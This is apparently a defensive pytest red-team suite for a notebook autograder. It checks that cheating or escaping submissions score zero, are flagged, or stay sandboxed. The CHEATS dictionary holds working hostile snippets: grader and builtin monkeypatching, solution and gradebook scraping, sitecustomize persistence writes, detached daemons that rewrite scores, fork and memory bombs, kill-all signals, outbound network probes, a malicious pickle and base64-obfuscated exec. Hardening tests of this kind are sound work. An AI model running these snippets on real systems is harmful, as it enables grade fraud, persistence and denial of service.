"""Red team: submissions written to cheat or to escape, graded by the real `labkit grade` path.

One grading run (lab 01, 4 points: alpha_bars 1 + snr 1 + q_sample 2) over a class of students who leave
the exercises unsolved and try a trick instead, beside honest, blank and partial students. Each test
asserts that its trick earns 0 points or is flagged ``needs review``, and the fixture checks that the
grading machine is unchanged afterwards: no file written outside the sandbox, nothing in labkit or
site-packages touched, no process left running, no network request received.
docs/instructors.md ("Threat model") lists each attack, what stops it and the test here that proves it.
"""

from __future__ import annotations

import copy
import html as htmllib
import http.server
import json
import os
import secrets
import socket
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

import labkit
from labkit import course

pytestmark = [pytest.mark.nbgrader, pytest.mark.slow, pytest.mark.extended]

REPO = Path(__file__).resolve().parents[1]

# lab 01's autograded points, read from the release (its graded code cells): what an honest notebook scores
FULL01 = float(sum(c.metadata["nbgrader"]["points"] for c in nbformat.read(str(REPO / "notebooks" / "lab01_forward.ipynb"),
                                                                           as_version=4).cells
                   if c.cell_type == "code" and (c.metadata.get("nbgrader") or {}).get("grade")))

LAB = "lab01_forward"
TOKEN = "lkrt" + secrets.token_hex(4)  # names every file and process a cheat tries to leave behind
STUBS = {  # unsolved answers: what the release holds
    "alpha_bars_from_betas": "def alpha_bars_from_betas(betas):\n    raise NotImplementedError()\n",
    "snr": "def snr(alpha_bars):\n    raise NotImplementedError()\n",
    "q_sample": "def q_sample(x0, t, noise, alpha_bars):\n    raise NotImplementedError()\n",
}
ZEROS = ("def alpha_bars_from_betas(betas):\n    return torch.zeros_like(betas)\n"
         "def snr(alpha_bars):\n    return torch.zeros_like(alpha_bars)\n"
         "def q_sample(x0, t, noise, alpha_bars):\n    return torch.zeros_like(x0)\n")

# Each cheat replaces the first answer cell (so that it runs before every test cell); the other answers
# stay unsolved. {TOKEN}, {PORT}, {REPO} are filled in below.
CHEATS = {
    "rebind_checks": """
class _Anything:
    def __getattr__(self, name):
        return lambda *a, **k: None
checks = _Anything()
""" + ZEROS,
    "patch_tensor_item": """
torch.Tensor.item = lambda self: 0.0
torch.Tensor.abs = lambda self: torch.zeros(())
torch.Tensor.max = lambda self, *a, **k: torch.zeros(())
""" + ZEROS,
    "patch_checks_and_allclose": """
import numpy as np
checks.check_alpha_bars = checks.check_snr = checks.check_q_sample = lambda *a, **k: print("passed")
torch.allclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
""" + ZEROS,
    "sys_modules": """
import sys, types
class _Fake(types.ModuleType):
    def __getattr__(self, name):
        return lambda *a, **k: None
for _name in [m for m in sys.modules if m.startswith("labkit.checks")]:
    sys.modules[_name] = _Fake(_name)
""" + ZEROS,
    "builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.callable = lambda *a: True
""" + ZEROS,
    "read_solutions": """
import json, pathlib, glob
import labkit
_found = []
_root = pathlib.Path(labkit.__file__).resolve().parents[1]
for _pattern in [str(_root / "solutions" / "**" / "*.ipynb"), str(_root / "solutions" / "**" / "*.py"),
                 "/tmp/**/*.ipynb", "/root/**/*.ipynb", "/home/**/*.ipynb", "{REPO}/solutions/**/*",
                 "{REPO}/notebooks/*", "/tmp/**/gradebook.db", "/root/**/gradebook.db"]:
    _found += glob.glob(_pattern, recursive=True)
print("FOUND", _found)
for _path in _found:
    if _path.endswith(".ipynb"):
        for _cell in json.load(open(_path))["cells"]:
            print(_cell.get("source"))
            if "BEGIN SOLUTION" in "".join(_cell.get("source", "")):
                exec("".join(_cell["source"]))
""" + ZEROS,
    "escape_write": """
import os, sys, pathlib, site
import labkit
_targets = ["/tmp/{TOKEN}-escape", "{REPO}/{TOKEN}-escape", str(pathlib.Path(labkit.__file__).parent / "{TOKEN}.py"),
            os.path.join(sys.prefix, "{TOKEN}.pth")]
_targets += [os.path.join(p, "sitecustomize.py") for p in sys.path if p]
_targets += [os.path.expanduser("~/.ipython/profile_default/startup/00-{TOKEN}.py")]
for _t in _targets:
    try:
        os.makedirs(os.path.dirname(_t), exist_ok=True)
        with open(_t, "w") as _f:
            _f.write("import builtins; builtins.{TOKEN} = 1\\n")
        print("wrote", _t)
    except Exception as _e:
        print("could not write", _t, type(_e).__name__)
""" + ZEROS,
    "detached_process": """
import os, subprocess, sys
_code = ("import time, glob, sqlite3\\ntime.sleep(4)\\nopen('/tmp/{TOKEN}-late', 'w').write('x')\\n"
         "for db in glob.glob('/**/gradebook.db', recursive=True):\\n"
         "    c = sqlite3.connect(db); c.execute('update grade set manual_score = 99'); c.commit()\\n")
subprocess.Popen([sys.executable, "-c", _code, "{TOKEN}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a classic double-forked daemon too
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code, "{TOKEN}"])
    os._exit(0)
""" + ZEROS,
    "fork_bomb": """
import os, time
_kids, _t0 = 0, time.time()
while time.time() - _t0 < 8:
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        _kids += 1
    except OSError:
        break
print("forked", _kids)
""" + ZEROS,
    "memory_bomb": """
def alpha_bars_from_betas(betas):
    hog = torch.empty(16 * 2 ** 30, dtype=torch.uint8)
    hog.fill_(1)
    return betas
_blocks = []
try:
    for _ in range(64):
        _blocks.append(bytearray(256 * 2 ** 20))
except MemoryError:
    print("memory cap reached after", len(_blocks) * 256, "MB")
del _blocks
""",
    "network": """
import socket, urllib.request
for _host, _port in [("127.0.0.1", {PORT}), ("1.1.1.1", 80), ("10.0.0.1", 80)]:
    try:
        socket.create_connection((_host, _port), timeout=2).sendall(b"GET /{TOKEN} HTTP/1.0\\r\\n\\r\\n")
        print("CONNECTED", _host)
    except Exception as _e:
        print("no network to", _host, type(_e).__name__)
try:
    urllib.request.urlopen("http://127.0.0.1:{PORT}/{TOKEN}", timeout=2)
except Exception as _e:
    print("urlopen failed", type(_e).__name__)
""" + ZEROS,
    "huge_output": """
print("x" * 30_000_000)
for _i in range(200_000):
    print(_i)
""" + ZEROS,
    "read_others": """
import os, sys
_seen = []
_python = (sys.prefix, sys.base_prefix)
for _top in ["/", "/tmp", "/root", "/home", "/work", os.path.expanduser("~")]:
    for _dirpath, _dirs, _files in os.walk(_top):
        if _dirpath.startswith(("/proc", "/sys", "/usr", "/lib", "/etc", "/bin", "/sbin", "/dev") + _python):
            _dirs[:] = []
            continue
        _seen += [os.path.join(_dirpath, f) for f in _files if f.endswith((".ipynb", ".db", ".csv"))]
print("OTHERS", sorted(set(_seen)))
""" + ZEROS,
    "kill_everything": """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except Exception as _e:
    print(type(_e).__name__)
""" + ZEROS,
    "forged_reply": """
import glob, os, threading, time, struct, json
_evil = (b"cos\\nsystem\\n(S'touch /tmp/{TOKEN}-pickle'\\ntR.")
def _forge():
    for _ in range(20000):
        for _path in glob.glob(os.path.expanduser("~") + "/call-*.in"):
            _out = _path[:-3] + ".out"
            for _payload in (_evil, struct.pack("<Q", 2 ** 40) + b"{}", b"PK\\x03\\x04" + _evil):
                try:
                    with open(_out, "wb") as _f:
                        _f.write(_payload)
                except OSError:
                    pass
        time.sleep(0.001)
threading.Thread(target=_forge, daemon=True).start()
""" + ZEROS,
    "exec_obfuscated": """
import base64
exec(base64.b64decode({PAYLOAD!r}).decode())
""",
    "system_exit": """
def alpha_bars_from_betas(betas):
    raise SystemExit(0)
def snr(alpha_bars):
    import os
    os._exit(0)
""",
}
# exec'd by "exec_obfuscated": the library's answers under the exercise's names
PAYLOAD = ("from labkit import diffusion\n"
           "class _Schedule:\n    pass\n"
           "def q_sample(x0, t, noise, alpha_bars):\n"
           "    s = _Schedule()\n    s.alpha_bars = alpha_bars\n"
           "    return diffusion.q_sample(x0, t, noise, s)\n")
LIBRARY_ANSWER = ("def q_sample(x0, t, noise, alpha_bars):\n"  # labkit's q_sample has the lab's arguments
                  "    return diffusion.q_sample(x0, t, noise, alpha_bars)\n")


def _release():
    return nbformat.read(str(REPO / "notebooks" / f"{LAB}.ipynb"), as_version=4)


def _answers():
    sol = nbformat.read(str(REPO / "solutions" / LAB / f"{LAB}.ipynb"), as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: "\n".join(ln for ln in c.source.splitlines() if "SOLUTION" not in ln)
            for c in sol.cells if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"}


def _with(cells: dict) -> nbformat.NotebookNode:
    nb = copy.deepcopy(_release())
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in cells:
            cell.source = cells[gid]
    return nb


class _Canary(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def do_GET(self):  # noqa: N802
        _Canary.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


def _snapshot() -> dict:
    """Traces a cheat would leave on the grading machine: files named after this run's token (or a
    sitecustomize.py) in labkit, site-packages and the repository, and labkit sources that mention it.
    (Names and contents, not modification times: other work in the same checkout may edit files meanwhile.)"""
    pkg = Path(labkit.__file__).resolve().parent
    site = Path(sys.prefix) / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
    return {
        "labkit": [str(p) for p in pkg.rglob("*") if TOKEN in p.name
                   or (p.suffix == ".py" and p.is_file() and TOKEN in p.read_text(errors="replace"))],
        "site": [n for n in os.listdir(site) if TOKEN in n or n == "sitecustomize.py"],
        "repo": [n for n in os.listdir(REPO) if TOKEN in n],
    }


def _token_processes() -> list[str]:
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if TOKEN in cmd:
                out.append(f"{pid}: {cmd[:100]}")
    return out


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("redteam")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Canary)
    port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    answers = _answers()
    subs = tmp / "submissions"
    students = {
        "honest": _with(answers),
        "blank": _release(),
        "partial": _with({"snr": answers["snr"]}),
        "library_answer": _with({"q_sample": "from labkit import diffusion\n" + LIBRARY_ANSWER}),
        "rebinds_later": _with({}),
    }
    import base64

    for name, code in CHEATS.items():
        code = code.replace("{TOKEN}", TOKEN).replace("{PORT}", str(port)).replace("{REPO}", str(REPO))
        code = code.replace("{PAYLOAD!r}", repr(base64.b64encode(PAYLOAD.encode()).decode()))
        students[name] = _with({"alpha_bars_from_betas": code, "snr": STUBS["snr"], "q_sample": STUBS["q_sample"]})
    # "rebinds_later": the answers are stubs, but a later, ordinary-looking cell points q_sample at the library
    nb = students["rebinds_later"]
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "q_sample")
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell("q_sample = diffusion.q_sample  # the library"))
    for name, nb in students.items():
        (subs / name).mkdir(parents=True)
        nbformat.write(nb, str(subs / name / f"{LAB}.ipynb"))
    before = _snapshot()
    t0 = time.monotonic()
    results = course.grade_submissions(subs, tmp / "out", [LAB], jobs=2, timeout=40, memory_limit_gb=2, verbose=False)
    seconds = time.monotonic() - t0
    time.sleep(6)  # the detached processes' wake-up time: they must be gone, not just asleep
    after = _snapshot()
    server.shutdown()
    by = {r.student.replace("-", "_"): r for r in results}  # student ids: labkit writes "_" as "-"
    for r in results:
        print(r.line()[:300])
    gradebook = tmp / "out" / "nbgrader" / LAB / "gradebook.db"
    return {"by": by, "out": tmp / "out", "before": before, "after": after, "seconds": seconds,
            "hits": list(_Canary.hits), "gradebook": gradebook, "n": len(students)}


def _autograded(graded, student) -> nbformat.NotebookNode:
    student = student.replace("_", "-")
    return nbformat.read(str(graded["out"] / "nbgrader" / LAB / "autograded" / student / LAB / f"{LAB}.ipynb"),
                         as_version=4)


def _printed(graded, student) -> str:
    """What the student's own cells printed while graded (test cells excluded)."""
    nb = _autograded(graded, student)
    return "\n".join(o.get("text", "") for c in nb.cells if c.cell_type == "code"
                     and not c.metadata.get("nbgrader", {}).get("grade")
                     for o in c.get("outputs", []) if o.get("output_type") == "stream")


def test_honest_students_get_exactly_their_marks(graded):
    by = graded["by"]
    assert (by["honest"].score, by["honest"].max_score, by["honest"].status) == (FULL01, FULL01, "graded"), by["honest"].line()
    assert (by["blank"].score, by["blank"].status) == (0, "graded"), by["blank"].line()
    assert (by["partial"].score, by["partial"].status) == (1, "graded"), by["partial"].line()


@pytest.mark.parametrize("cheat", sorted(set(CHEATS) - {"exec_obfuscated"}))
def test_cheat_scores_zero(graded, cheat):
    r = graded["by"][cheat]
    assert r.score == 0, r.line()


@pytest.mark.parametrize("student, phrase", [
    ("library_answer", "labkit.diffusion.q_sample"),
    ("exec_obfuscated", "exec()"),
    ("rebinds_later", "binds q_sample outside its answer cell"),
    ("patch_checks_and_allclose", "replaces"),
    ("builtins", "replaces builtins"),
])
def test_answers_that_are_the_library_or_tampering_are_flagged(graded, student, phrase):
    r = graded["by"][student]
    assert r.status == "needs review", r.line()
    assert any(phrase in n for n in r.notes), r.notes


def test_the_library_answer_is_flagged_even_though_it_passes(graded):
    # the point of the flag: the checks cannot tell diffusion.q_sample from a hand-written q_sample
    assert graded["by"]["library_answer"].score == 2


def test_no_hidden_test_or_solution_reaches_the_student(graded):
    hidden = ["seed=11", "sizes=(2, 7, 500)", "seed=3, sizes", "BEGIN HIDDEN", "### BEGIN SOLUTION",
              "(2, 3, 6, 4)"]
    for student in ("read_solutions", "honest", "blank", "read_others"):
        text = _printed(graded, student)
        fb = graded["out"] / "feedback" / student.replace("_", "-") / f"{LAB}.html"
        assert fb.exists()
        page = htmllib.unescape(fb.read_text(encoding="utf-8"))
        for secret in hidden:
            assert secret not in text, (student, secret)
            assert secret not in page, (student, secret)
    assert "FOUND []" in _printed(graded, "read_solutions")


def test_a_submission_sees_no_other_submission_or_course_file(graded):
    text = _printed(graded, "read_others")
    listed = text.split("OTHERS", 1)[1]
    assert listed.strip().startswith("[]"), listed[:500]


def test_nothing_written_outside_the_sandbox(graded):
    text = _printed(graded, "escape_write")
    assert "wrote" in text  # its own folder (the sandbox's $HOME) and a private /tmp are writable ...
    assert "could not write" in text  # ... labkit, site-packages and the repository are read-only or absent
    leftovers = [p for p in Path("/tmp").iterdir() if TOKEN in p.name] + list(REPO.glob(f"*{TOKEN}*"))
    assert leftovers == []
    assert graded["after"] == graded["before"]  # labkit, site-packages and the repository are unchanged
    assert not hasattr(__import__("builtins"), TOKEN)


def test_no_process_outlives_its_submission(graded):
    assert _token_processes() == []
    assert not any(TOKEN in p.name for p in Path("/tmp").iterdir())  # the detached ones never woke up outside
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded['gradebook']}") as gb:
        s = gb.find_submission(LAB, "detached-process")
        assert s.score == 0


def test_fork_bomb_is_capped_and_memory_bomb_hits_the_limit(graded):
    forked = [ln for ln in _printed(graded, "fork_bomb").splitlines() if ln.startswith("forked")]
    assert forked and int(forked[0].split()[1]) < 300, forked
    assert "memory cap reached" in _printed(graded, "memory_bomb")
    assert graded["by"]["memory_bomb"].score == 0


def test_no_network_from_a_submission(graded):
    assert graded["hits"] == []
    text = _printed(graded, "network")
    assert "CONNECTED" not in text and "no network to 127.0.0.1" in text


def test_huge_output_is_cut(graded):
    path = graded["out"] / "nbgrader" / LAB / "autograded" / "huge-output" / LAB / f"{LAB}.ipynb"
    assert path.stat().st_size < 5 * 2 ** 20
    assert "output cut" in path.read_text(encoding="utf-8")


def test_a_forged_reply_is_never_unpickled(graded):
    assert not Path(f"/tmp/{TOKEN}-pickle").exists()
    assert graded["by"]["forged_reply"].score == 0


def test_grading_run_time_is_recorded(graded):
    per = graded["seconds"] / graded["n"]
    print(f"\nred-team run: {graded['n']} notebooks in {graded['seconds']:.0f} s ({per:.1f} s each, 2 workers)")
    assert per > 0
